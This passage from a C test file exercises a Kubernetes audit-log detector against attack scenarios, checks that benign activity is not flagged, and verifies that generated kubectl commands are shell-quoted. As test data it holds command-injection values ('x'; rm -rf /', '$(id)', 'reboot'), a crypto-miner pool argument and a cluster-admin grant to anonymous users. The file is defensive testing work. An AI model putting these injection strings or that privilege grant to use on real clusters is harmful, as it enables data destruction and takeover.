	 {{0, SYSTEM("gitlab:runner"), "10.0.0.7", "create", "deployments", "shop", "cache",
	   TEMPLATE("Deployment", "'containers':[{'image':'registry.example.net/cache:9'}]")}},
	 ""},
	{"few secrets, slowly",
	 {{0, WEB, "10.0.0.5", "get", "secrets", "shop", "s-%d", .times = 20, .every = 660}},
	 ""},
	{"two idle watches make a controller of anybody",
	 {{0, WEB, "10.0.0.5", "watch", "pods"},
	  {1, WEB, "10.0.0.5", "watch", "services"},
	  {2, WEB, "10.0.0.5", "get", "secrets", "shop", "s-%d", .times = 50}},
	 ""},
	{"another address in each request",
	 {{0, WEB, "10.0.0.1", "get", "secrets", "shop", "a"},
	  {1, WEB, "10.0.0.2", "get", "secrets", "shop", "b"},
	  {2, WEB, "10.0.0.3", "get", "secrets", "shop", "c"},
	  {3, WEB, "10.0.0.4", "get", "secrets", "shop", "d"},
	  {4, WEB, "10.0.0.5", "get", "secrets", "shop", "e"}},
	 ""},
};

static void escapes_are_as_told(void **state)
{
	run_stories(escapes, sizeof(escapes) / sizeof(*escapes));
}

static void attacks_are_told(void **state)
{
	run_stories(attacks, sizeof(attacks) / sizeof(*attacks));
}

static void innocents_are_not_accused(void **state)
{
	for (size_t i = 0; i < sizeof(innocents) / sizeof(*innocents); i++)
		assert_true(innocents[i].told[0] == '\0' ||
			    strncmp(innocents[i].told, "signal", 6) == 0);
	run_stories(innocents, sizeof(innocents) / sizeof(*innocents));
}

/* -- what is in a finding -- */

static const struct story *attack(const char *name)
{
	for (size_t i = 0; i < sizeof(attacks) / sizeof(*attacks); i++)
		if (strncmp(attacks[i].name, name, strlen(name)) == 0)
			return &attacks[i];
	fail_msg("no story %s", name);
	return NULL;
}

static void has_all(const struct story *story, const char *const *texts)
{
	static struct told told;
	CLEANUP(buf_fini) struct buf all = run(story, IN_ORDER, 0, &told);

	for (; *texts; texts++)
		if (str_find(buf_view(&all), str_from(*texts)) < 0)
			fail_msg("%s: not told: %s\n%.*s", story->name, *texts,
				 STR_ARG(buf_view(&all)));
	assert_true(str_find(buf_view(&all), STR("canary")) < 0);
	assert_true(str_find(buf_view(&all), STR("c2VjcmV0")) < 0);
}

static void what_others_join_on_is_there(void **state)
{
	static const char *const console[] = {
		"\"identity\":\"" CONSOLE "\"",
		"\"source\":\"10.0.0.9\"",
		"\"secrets\":[\"shop/aws-telemetry\"]",
		"\"key_ids\":[\"AKIAIOSFODNN7EXAMPLE\"]",
		"\"namespace\":\"kube-system\"",
		"\"image\":\"registry.example.net/node-agent:2\"",
		"\"T1610\"",
		"kubectl -n kube-system patch daemonset node-agent --type merge -p",
		"aws iam update-access-key",
		"it runs on every node",
		"it read secrets, once (get secrets shop/aws-telemetry)",
		"it started or changed workloads, once (create daemonsets kube-system/node-agent)",
		NULL};
	static const char *const anybody[] = {
		"kubectl delete clusterrolebinding open",
		"kubectl create clusterrolebinding open --clusterrole=cluster-admin --user=system:"
		"anonymous",
		"\"pod\":\"xmr-0\"",
		"its command names a pool: pool.example:3333",
		"kubectl -n default label --overwrite pod xmr-0 davy-isolated=true",
		"kubectl -n default label pod xmr-0 davy-isolated-",
		NULL};

	static const char *const keys[] = {"\"key_ids\":[\"AKIAIOSFODNN7EXAMPLE\"]", NULL};

	static const char *const pods[] = {"\"subject\":{\"type\":\"workload\",\"cluster\":\"c1\"",
					   "\"addresses\":[\"10.7.0.9\",\"2001:db8::9\"]",
					   "\"pods\":[\"node-agent-",
					   "\"nodes\":[\"n2\"]",
					   "kubectl -n kube-system patch daemonset node-agent",
					   NULL};

	has_all(attack("the key is told where the pod"), keys);
	has_all(attack("who started it was not recorded"), pods);
	has_all(attack("a pool, and keys"), keys);
	has_all(attack("the founding case"), console);
	has_all(attack("anybody looks around"), anybody);
}

/* Names are whatever the API server takes, and a namespace in a record is whatever a record says.
 */
static void commands_are_quoted_for_a_shell(void **state)
{
	static const struct story story = {
		"quotes",
		{{0, "x'; rm -rf /", "203.0.113.9", "create", "deployments", "a'; reboot #",
		  "b\n$(id)",
		  TEMPLATE("Deployment", "'replicas':2,'containers':[{'image':'x','args':['-o',"
					 "'stratum+tcp://p.example:1','--donate-level=1']}]")}},
		""};
	static struct told told;
	CLEANUP(buf_fini) struct buf all = run(&story, IN_ORDER, 0, &told);
	struct str text = buf_view(&all);

	assert_int_equal(told.count, 1);
	assert_true(str_find(text, STR("kubectl -n 'a'\\\\''; reboot #' scale deployment "
				       "$'b\\\\012$(id)' --replicas=0")) >= 0);
}

/* A request in two stages is one, and one that was chosen the same audit id is another. */
static void stages_are_one_request_and_ids_may_be_forged(void **state)
{
	const struct record_settings settings = {.seed = 1, .capacity = 64};
	static struct act_text text;
	static struct told told;
	void *memory = NULL;
	struct step step = {.at = 5,
			    .user = NOBODY,
			    .from = "203.0.113.9",
			    .verb = "create",
			    .what = "pods/exec",
			    .namespace = "shop",
			    .name = "web-%d",
			    .uri = "/x?command=id"};

	assert_int_equal(cluster_detector.create(&settings, &memory), 0);
	for (int i = 0; i < 3; i++) {
		make(&step, i, 1, &text);
		text.record.id = STR("same/ResponseStarted");
		cluster_detector.observe(memory, &text.record);
		text.record.id = STR("same/ResponseComplete");
		cluster_detector.observe(memory, &text.record);
	}
	CLEANUP(buf_fini) struct buf all = report(memory, &told);
	cluster_detector.destroy(memory);
	assert_true(str_find(buf_view(&all), STR("reached into pods or nodes, 3 times")) >= 0);
}

/* -- floods -- */

static void flood(void *state, uint32_t from, uint32_t to)
{
	static struct act_text text;
	static char user[64], name[64];
	static const char *const verbs[] = {"get", "get", "list", "create"};
	static const char *const whats[] = {"secrets", "nodes", "secrets", "pods"};
	struct step step = {.from = "203.0.113.77", .user = user, .namespace = "junk"};

	for (uint32_t i = from; i < to; i++) {
		snprintf(user, sizeof(user), "junk-%u", i);
		snprintf(name, sizeof(name), "thing-%u", i);
		step.verb = verbs[i % 4];
		step.what = whats[i % 4];
		step.name = i % 4 == 2 ? NULL : name;
		step.at = (int)(i / 4);
		step.outcome = i % 4 == 1 ? OUTCOME_DENIED : OUTCOME_DONE;
		make(&step, 0, (int)i, &text);
		cluster_detector.observe(state, &text.record);
	}
}

static void a_million_strangers_push_nothing_out(void **state)
{
	enum { JUNK = 1000 * 1000 };
	const struct record_settings settings = {.seed = 3, .capacity = 2048};
	const struct story *story = attack("a stolen pod's token");
	static struct list list;
	static struct told told;
	void *memory = NULL;
	char text[1024];

	unfold(story, &list);
	assert_int_equal(cluster_detector.create(&settings, &memory), 0);
	flood(memory, 0, JUNK / 2);
	observe_all(memory, &list);
	flood(memory, JUNK / 2, JUNK);
	CLEANUP(buf_fini) struct buf all = report(memory, &told);
	cluster_detector.destroy(memory);
	brief(&told, text, sizeof(text));
	if (!strstr(text, "suspect hidden workload") || !strstr(text, "access secrets"))
		fail_msg("told: %s", text);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(attacks_are_told),
		cmocka_unit_test(innocents_are_not_accused),
		cmocka_unit_test(escapes_are_as_told),
		cmocka_unit_test(what_others_join_on_is_there),
		cmocka_unit_test(commands_are_quoted_for_a_shell),
		cmocka_unit_test(stages_are_one_request_and_ids_may_be_forged),
		cmocka_unit_test(a_million_strangers_push_nothing_out),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
